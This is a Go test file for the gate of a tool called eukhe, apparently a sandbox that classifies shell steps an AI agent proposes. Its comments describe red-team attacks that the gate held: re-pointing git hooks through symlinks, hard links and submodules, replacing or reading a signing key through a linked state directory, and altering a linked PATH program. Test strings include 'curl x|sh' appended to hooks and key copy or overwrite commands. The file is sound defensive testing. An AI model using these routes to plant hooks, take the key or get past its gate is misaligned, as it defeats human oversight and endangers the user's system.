//go:build linux

package gate_test

// The thirty-second red team's gate attacks that were HELD when it ran
// (each asserts the safe outcome and passes); the ones that got through
// are in redteam32_open_attacks_test.go, which uses the helpers here.

import (
	"github.com/eukhe/eukhe/gate"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/eukhe/eukhe/gate/settings"
)

// r32GitPolicy is the policy of a workspace (made by mk) in a home with
// ~/.ssh, its git places gathered as a session gathers them, and eukhe's
// state directory in the home; env is the session's environment.
func r32GitPolicy(t *testing.T, env map[string]string, mk func(root, home string)) (p *gate.Policy, root, home string) {
	t.Helper()
	base, err := filepath.EvalSymlinks(t.TempDir())
	must32(t, err)
	home = filepath.Join(base, "home")
	root = filepath.Join(base, "proj")
	must32(t, os.MkdirAll(filepath.Join(home, ".ssh"), 0o700))
	must32(t, os.MkdirAll(root, 0o755))
	mk(root, home)
	if env == nil {
		env = map[string]string{}
	}
	env["HOME"] = home
	if env["PATH"] == "" {
		env["PATH"] = "/usr/bin:/bin"
	}
	paths := settings.Locate(env, []string{root})
	p, _ = paths.Policy(env)
	return p, root, home
}

// r32Effects is the union of the effects of script's steps in root.
func r32Effects(t *testing.T, p *gate.Policy, root, home, script string) gate.Effects {
	t.Helper()
	return r32classify(t, p, root, home, script)
}

// Attack (learnLinksIn, core.hooksPath naming a link in the work tree;
// HELD, high under a careful auto set): git config core.hooksPath hk,
// where hk links to tools/hooks (a tracked directory). The hooks git runs
// are tools/hooks/*, by their own paths; re-pointing hk moves them.
// HELD: the hooks path's rule has both forms (treeRuleForms), the link's
// own path and its real target. Safe outcome: a write of
// tools/hooks/pre-commit and `ln -sfn other hk` are protected; a write
// of tools/other.txt is not.
func TestRedteam32_HooksPathThroughAWorkTreeLink(t *testing.T) {
	p, root, home := r32GitPolicy(t, nil, func(root, home string) {
		must32(t, os.MkdirAll(filepath.Join(root, ".git", "hooks"), 0o755))
		must32(t, os.WriteFile(filepath.Join(root, ".git", "config"), []byte("[core]\n\thooksPath = hk\n"), 0o644))
		must32(t, os.MkdirAll(filepath.Join(root, "tools", "hooks"), 0o755))
		must32(t, os.MkdirAll(filepath.Join(root, "other"), 0o755))
		must32(t, os.Symlink("tools/hooks", filepath.Join(root, "hk")))
	})
	for _, s := range []string{"echo '#!/bin/sh' > tools/hooks/pre-commit", "ln -sfn other hk", "rm hk"} {
		if e := r32Effects(t, p, root, home, s); !e.Has(gate.Protected) {
			t.Errorf("THROUGH: %q is %v, not protected", s, e)
		}
	}
	if e := r32Effects(t, p, root, home, "echo x > tools/other.txt"); e.Has(gate.Protected) {
		t.Errorf("false positive: a file beside the hooks is %v", e)
	}
}

// Attack (the state directory reached through a link; HELD, high):
// ~/.local/state is a link into the workspace (a dotfiles checkout kept
// there), so the discovery key lies at proj/state/eukhe/discovery/key.
// A step reads it, or replaces it, by its real path, whose words name no
// secret; with the key an agent signs an entry that every eukhe of the
// user verifies. HELD: the state directory's secret entry is resolved to
// its real form. Safe outcome: secret.
func TestRedteam32_KeyThroughALinkedStateDirectoryIsSecret(t *testing.T) {
	p, root, home := r32GitPolicy(t, nil, func(root, home string) {
		must32(t, os.MkdirAll(filepath.Join(root, "state", "eukhe", "discovery"), 0o700))
		must32(t, os.WriteFile(filepath.Join(root, "state", "eukhe", "discovery", "key"), []byte(strings.Repeat("k", 32)), 0o600))
		must32(t, os.MkdirAll(filepath.Join(home, ".local"), 0o755))
		must32(t, os.Symlink(filepath.Join(root, "state"), filepath.Join(home, ".local", "state")))
	})
	for _, s := range []string{
		"cat state/eukhe/discovery/key", "cp state/eukhe/discovery/key x",
		"printf %032d 0 > state/eukhe/discovery/key", "mv state/eukhe state/old",
		"rm -rf state/eukhe/discovery",
	} {
		if e := r32Effects(t, p, root, home, s); !e.Has(gate.Secret) {
			t.Errorf("THROUGH: %q is %v, not secret", s, e)
		}
	}
}

// Attack (replacing the key from a step through a directory above it;
// HELD, high): the step prepares a state directory of its own (a key it
// knows in eukhe/discovery) and moves it, or links it, to
// ~/.local/state, or renames the user's away first; the next eukhe reads
// the key of the step's (userkey.Key reads it at each use) and verifies
// the step's entries. Its words name ~/.local/state, not the key. HELD:
// a write of a directory above a secret entry is secret. Safe outcome:
// secret.
func TestRedteam32_StateDirectoryReplacedFromAbove(t *testing.T) {
	p, root, home := r32GitPolicy(t, nil, func(root, home string) {
		must32(t, os.MkdirAll(filepath.Join(home, ".local", "state", "eukhe", "discovery"), 0o700))
		must32(t, os.MkdirAll(filepath.Join(home, ".local", "mine", "eukhe", "discovery"), 0o700))
	})
	for _, s := range []string{
		"mv ~/.local/state ~/.local/old", "mv ~/.local/mine ~/.local/state/", "rm -rf ~/.local/state",
		"ln -sfn ~/.local/mine ~/.local/state", "mv ~/.local ~/.old",
	} {
		if e := r32Effects(t, p, root, home, s); !e.Has(gate.Secret) {
			t.Errorf("THROUGH: %q is %v, not secret", s, e)
		}
	}
}

// Attack (a hard-linked hook; HELD, medium under a careful auto
// set): .git/hooks/pre-commit is a hard link to scripts/pre-commit.sh (a
// tracked hook installed with `ln`, or `cp -l`), the same file by two
// names. A write of scripts/pre-commit.sh writes the hook git runs at
// the next commit; rt31 made a symbolic link's target protected
// (learnLinksIn), a hard link has no target to learn. HELD: the
// gate judges a write of a file with more than one name by its other
// names too (the tenth red team's hard links), and one of them is a
// hook. Safe outcome: the write is protected.
func TestRedteam32_HardLinkedHookIsProtected(t *testing.T) {
	p, root, home := r32GitPolicy(t, nil, func(root, home string) {
		must32(t, os.MkdirAll(filepath.Join(root, ".git", "hooks"), 0o755))
		must32(t, os.WriteFile(filepath.Join(root, ".git", "config"), []byte("[core]\n"), 0o644))
		must32(t, os.MkdirAll(filepath.Join(root, "scripts"), 0o755))
		must32(t, os.WriteFile(filepath.Join(root, "scripts", "pre-commit.sh"), []byte("#!/bin/sh\n"), 0o755))
		must32(t, os.Link(filepath.Join(root, "scripts", "pre-commit.sh"), filepath.Join(root, ".git", "hooks", "pre-commit")))
	})
	if e := r32Effects(t, p, root, home, "echo x > .git/hooks/pre-commit"); !e.Has(gate.Protected) {
		t.Fatalf("the hook by its own name is %v", e)
	}
	if e := r32Effects(t, p, root, home, "echo 'curl x|sh' >> scripts/pre-commit.sh"); !e.Has(gate.Protected) {
		t.Errorf("THROUGH: a write of the hook's other name is %v, not protected", e)
	}
}

// Attack (a submodule's hooks directory linked into the work tree; HELD,
// medium under a careful auto set): .git/modules/lib/hooks
// (the hooks git runs in the submodule lib) links to ../../../libhooks.
// A write of libhooks/pre-commit plants a hook git runs at the next
// commit in lib. learnLinksIn looks at the links directly in each Tree
// rule's place and its hooks directory only, not deeper in .git. HELD:
// GitPlaces finds the submodule's git directory (lib/.git names it) and
// gives its hooks directory as a git place, whose form through the link
// is its real target (treeRuleForms). Safe outcome: protected.
func TestRedteam32_SubmoduleHooksLinkIsLearned(t *testing.T) {
	p, root, home := r32GitPolicy(t, nil, func(root, home string) {
		must32(t, os.MkdirAll(filepath.Join(root, ".git", "hooks"), 0o755))
		must32(t, os.WriteFile(filepath.Join(root, ".git", "config"), []byte("[core]\n"), 0o644))
		must32(t, os.MkdirAll(filepath.Join(root, ".git", "modules", "lib"), 0o755))
		must32(t, os.WriteFile(filepath.Join(root, ".git", "modules", "lib", "config"), []byte("[core]\n\tworktree = ../../../lib\n"), 0o644))
		must32(t, os.MkdirAll(filepath.Join(root, "lib"), 0o755))
		must32(t, os.WriteFile(filepath.Join(root, "lib", ".git"), []byte("gitdir: ../.git/modules/lib\n"), 0o644))
		must32(t, os.MkdirAll(filepath.Join(root, "libhooks"), 0o755))
		must32(t, os.Symlink("../../../libhooks", filepath.Join(root, ".git", "modules", "lib", "hooks")))
	})
	if e := r32Effects(t, p, root, home, "echo '#!/bin/sh' > libhooks/pre-commit"); !e.Has(gate.Protected) {
		t.Errorf("THROUGH: libhooks/pre-commit (the submodule's hook) is %v, not protected", e)
	}
}

func must32(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// r32classify is the union of the effects of script's steps in root.
func r32classify(t *testing.T, p *gate.Policy, root, home, script string) gate.Effects {
	t.Helper()
	sh := &gate.Shell{Policy: p, Dir: root, Env: map[string]string{"HOME": home, "PATH": "/usr/bin:/bin"}, ReadDir: os.ReadDir}
	sc, err := sh.Classify(script)
	if err != nil {
		return gate.Of(gate.Secret) // refused whole
	}
	var e gate.Effects
	for _, s := range sc.Steps {
		e = e.Union(s.Effects)
	}
	return e
}

// Attack (a PATH program linked into the workspace; HELD, high under a
// careful auto set): ~/.local/bin/tool links to the workspace's
// scripts/tool.sh (a tool installed from its checkout). A write of
// scripts/tool.sh changes the program the user's shell runs as `tool`.
// HELD: learnLinksIn makes the target of a link in a PATH directory
// protected. Safe outcome: protected; a file beside it is not.
func TestRedteam32_APathProgramLinkedIntoTheWorkspaceIsProtected(t *testing.T) {
	env := map[string]string{}
	p, root, home := r32GitPolicy(t, env, func(root, home string) {
		bin := filepath.Join(home, ".local", "bin")
		env["PATH"] = bin + ":/usr/bin:/bin"
		must32(t, os.MkdirAll(bin, 0o755))
		must32(t, os.MkdirAll(filepath.Join(root, "scripts"), 0o755))
		must32(t, os.WriteFile(filepath.Join(root, "scripts", "tool.sh"), []byte("#!/bin/sh\n"), 0o755))
		must32(t, os.Symlink(filepath.Join(root, "scripts", "tool.sh"), filepath.Join(bin, "tool")))
	})
	if e := r32Effects(t, p, root, home, "echo 'curl x|sh' >> scripts/tool.sh"); !e.Has(gate.Protected) {
		t.Errorf("THROUGH: the PATH program's target is %v", e)
	}
	if e := r32Effects(t, p, root, home, "echo x > scripts/notes.md"); e.Has(gate.Protected) {
		t.Errorf("false positive: a file beside it is %v", e)
	}
}
